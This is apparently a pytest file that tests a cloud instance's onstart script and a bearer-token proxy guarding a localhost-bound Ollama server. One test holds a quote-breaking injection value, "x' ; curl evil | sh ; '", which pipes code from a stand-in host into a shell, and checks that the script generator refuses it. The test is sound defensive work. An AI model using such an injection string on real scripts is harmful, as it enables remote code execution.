"""The onstart script a rented instance runs, and the token proxy it ships: Ollama listens
on 127.0.0.1 only, and nothing reaches it without the instance's bearer token."""

from __future__ import annotations

import json
import re
import select
import subprocess
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest

from loopwright.hosts.vast_onstart import new_token, onstart_script, proxy_source
from tests.backends.models.fake_ollama import FakeOllama, Server

TOKEN = new_token()


def test_ollama_is_bound_to_localhost_and_only_the_proxy_listens_publicly() -> None:
    script = onstart_script(TOKEN)
    assert "export OLLAMA_HOST=127.0.0.1:11435\n" in script
    outside = re.sub(r"<<'LW_PROXY_EOF'\n.*?\nLW_PROXY_EOF\n", "\n", script, flags=re.S)
    public = [line for line in outside.splitlines() if "0.0.0.0" in line]
    assert public == [
        "nohup python3 /root/lw_proxy.py --listen 0.0.0.0:11434 --upstream 127.0.0.1:11435 \\"
    ]
    assert script.index("export OLLAMA_HOST=") < script.index("ollama serve")


def test_the_script_carries_the_token_and_the_proxy_unchanged_and_is_valid_bash() -> None:
    script = onstart_script(TOKEN)
    assert f"export LW_PROXY_TOKEN='{TOKEN}'\n" in script
    assert proxy_source().rstrip("\n") in script
    checked = subprocess.run(["bash", "-n"], input=script, text=True, capture_output=True)
    assert checked.returncode == 0, checked.stderr


def test_a_token_that_could_break_out_of_its_quotes_is_refused() -> None:
    with pytest.raises(ValueError):
        onstart_script("x' ; curl evil | sh ; '" + "a" * 32)
    assert new_token() != new_token() and len(new_token()) >= 32


def shipped_proxy(tmp_path: Path) -> Path:
    """The proxy program exactly as the onstart script writes it on the instance."""
    script = onstart_script(TOKEN)
    found = re.search(r"<<'LW_PROXY_EOF'\n(.*?)\nLW_PROXY_EOF\n", script, re.S)
    assert found is not None
    path = tmp_path / "lw_proxy.py"
    path.write_text(found.group(1) + "\n")
    return path


@pytest.fixture
def proxied(tmp_path: Path) -> Iterator[tuple[str, FakeOllama]]:
    """The shipped proxy run by its own interpreter (standard library only) in front of a
    fake Ollama; yields the proxy's URL."""
    fake = FakeOllama()
    upstream = Server(fake)
    argv = [sys.executable, "-I", str(shipped_proxy(tmp_path)), "--listen", "127.0.0.1:0"]
    argv += ["--upstream", upstream.url.removeprefix("http://")]
    proc = subprocess.Popen(
        argv, env={"LW_PROXY_TOKEN": TOKEN}, stdout=subprocess.PIPE, stderr=subprocess.STDOUT
    )
    try:
        assert proc.stdout is not None
        assert select.select([proc.stdout], [], [], 30)[0], "the proxy did not start"
        port = proc.stdout.readline().decode().rsplit(" ", 1)[-1].strip()
        yield f"http://127.0.0.1:{port}", fake
    finally:
        proc.kill()
        proc.wait(10)
        if proc.stdout is not None:
            proc.stdout.close()
        upstream.stop()


def test_the_shipped_proxy_refuses_a_request_without_the_token_or_with_another(
    proxied: tuple[str, FakeOllama],
) -> None:
    url, fake = proxied
    assert httpx.get(f"{url}/api/tags").status_code == 401
    wrong = {"Authorization": "Bearer " + new_token()}
    assert httpx.get(f"{url}/api/tags", headers=wrong).status_code == 401
    assert httpx.post(f"{url}/api/pull", json={"model": "x"}).status_code == 401
    assert fake.requests == []  # nothing reached Ollama


def test_the_shipped_proxy_forwards_with_the_token_and_strips_it(
    proxied: tuple[str, FakeOllama],
) -> None:
    url, fake = proxied
    auth = {"Authorization": f"Bearer {TOKEN}"}
    assert httpx.get(f"{url}/api/version", headers=auth).json() == {"version": "0.9.0"}
    pulled = httpx.post(f"{url}/api/pull", json={"model": "qwen"}, headers=auth)
    assert [json.loads(x)["status"] for x in pulled.text.splitlines()][-1] == "success"
    assert fake.bodies("/api/pull") == [{"model": "qwen"}]
    assert all("authorization" not in h for _, _, h in fake.requests)


def test_the_proxy_streams_each_chunk_as_ollama_sends_it(tmp_path: Path) -> None:
    """The race forced: the upstream sends one line and waits until the client has read
    it; a proxy that buffered the reply would never deliver that line."""
    from loopwright.hosts import vast_proxy

    seen = threading.Event()

    class Slow(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def do_POST(self) -> None:
            self.rfile.read(int(self.headers["content-length"]))
            self.send_response(200)
            self.send_header("Transfer-Encoding", "chunked")
            self.end_headers()
            for line, wait in (
                (b'{"status":"downloading"}\n', True),
                (b'{"status":"success"}\n', False),
            ):
                self.wfile.write(b"%x\r\n%s\r\n" % (len(line), line))
                self.wfile.flush()
                if wait:
                    assert seen.wait(20)
            self.wfile.write(b"0\r\n\r\n")

        def log_message(self, *args: Any) -> None:
            pass

    upstream = ThreadingHTTPServer(("127.0.0.1", 0), Slow)
    proxy = vast_proxy.make_server("127.0.0.1:0", f"127.0.0.1:{upstream.server_port}", TOKEN)
    for server in (upstream, proxy):
        threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True).start()
    try:
        url = f"http://127.0.0.1:{proxy.server_port}/api/pull"
        with httpx.stream("POST", url, json={}, headers={"Authorization": f"Bearer {TOKEN}"}) as r:
            lines = r.iter_lines()
            assert json.loads(next(lines)) == {"status": "downloading"}
            seen.set()
            assert json.loads(next(lines)) == {"status": "success"}
    finally:
        seen.set()
        for server in (proxy, upstream):
            server.shutdown()
            server.server_close()


def test_python3_is_installed_unless_every_module_the_proxy_imports_is_there() -> None:
    """Debian's python3-minimal lacks http and json: the check imports what the proxy does."""
    import ast

    tree = ast.parse(proxy_source())
    imported = {a.name for n in ast.walk(tree) if isinstance(n, ast.Import) for a in n.names}
    imported |= {n.module or "" for n in ast.walk(tree) if isinstance(n, ast.ImportFrom)}
    imported -= {"__future__", "os", "sys"}
    [check] = [line for line in onstart_script(TOKEN).splitlines() if "python3 -c" in line]
    checked = set(check.split("'")[1].removeprefix("import ").split(", "))
    assert imported <= checked, imported - checked
    assert "apt-get install -y -qq python3)" in onstart_script(TOKEN)
